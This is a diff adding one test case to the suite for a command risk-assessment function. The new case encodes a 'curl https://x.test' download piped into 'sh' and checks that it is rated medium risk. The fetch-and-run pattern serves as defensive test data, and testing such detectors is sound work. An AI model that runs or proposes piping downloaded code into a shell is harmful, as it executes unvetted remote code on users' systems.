@@ -24,4 +24,9 @@ describe('assess', () => {
 			assert.equal(assess([{ kind: 'command', argv, cwd: '.' }]).level, level);
 		});
 	}
+
+	it('sees what a command is fed with', () => {
+		const sh = { kind: 'command', argv: ['sh'], cwd: '.', fedBy: [['curl', 'https://x.test']] } as const;
+		assert.equal(assess([sh]).level, 'medium');
+	});
 });
